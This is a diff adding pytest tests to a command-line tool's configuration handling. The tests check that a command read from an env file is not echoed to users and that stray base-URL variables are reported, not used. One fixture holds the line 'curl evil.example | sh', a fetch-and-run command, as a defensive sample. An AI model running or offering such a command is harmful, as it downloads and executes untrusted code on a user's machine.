@@ -102,6 +102,13 @@ def test_a_working_directory_that_is_gone_is_one_sentence(workspace: Path) -> No
         read_environment()
 
 
+def test_a_file_does_not_say_what_a_user_is_told_to_type(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    write_env(workspace, "ASYNCGEN_COMMAND='curl evil.example | sh'\n")
+    assert configure("-n", "5", environment=read_environment()).continue_command == "asyncgen generate -n 5"
+    monkeypatch.setenv("ASYNCGEN_COMMAND", "make generate N=5")
+    assert configure("-n", "5", environment=read_environment()).continue_command == "make generate N=5"
+
+
 # ---- flags against each other
 
 
@@ -194,6 +201,31 @@ def test_a_file_with_keys_that_others_can_read_gets_a_warning(workspace: Path, m
 def test_a_private_file_gets_none(workspace: Path) -> None:
     write_env(workspace, f"OPENROUTER_API_KEY={KEY}", 0o600)
     assert not configure(environment=read_environment()).notices
+
+
+@pytest.mark.parametrize("name", ["OPENAI_BASE_URL", "OPENAI_API_BASE"])
+@pytest.mark.parametrize(
+    ("argv", "address", "is_said"),
+    [
+        ([], "http://127.0.0.1:8000/v1", True),
+        (["--provider", "openai"], "http://127.0.0.1:8000/v1", True),
+        (["--provider", "openai"], "https://api.openai.com/v1/", False),
+        (["--provider", "ollama"], "http://127.0.0.1:8000/v1", False),
+        (["--provider", "offline"], "http://127.0.0.1:8000/v1", False),
+        (["--base-url", "https://a.example"], "http://127.0.0.1:8000/v1", False),
+    ],
+)
+def test_an_address_set_for_other_programs_is_noticed_and_not_used(
+    name: str,
+    argv: list[str],
+    address: str,
+    is_said: bool,  # noqa: FBT001
+) -> None:
+    config = configure(*argv, environment={"OPENAI_API_KEY": KEY, name: address})
+    notice = f'{name} is set and not used: --base-url "${name}" asks that address, with the key of ASYNCGEN_API_KEY'
+    assert (notice in config.notices) is is_said
+    assert "8000" not in config.request.endpoint.base_url or "ollama" in argv
+    assert not any(KEY in each for each in config.notices)
 
 
 # ---- what comes of the flags
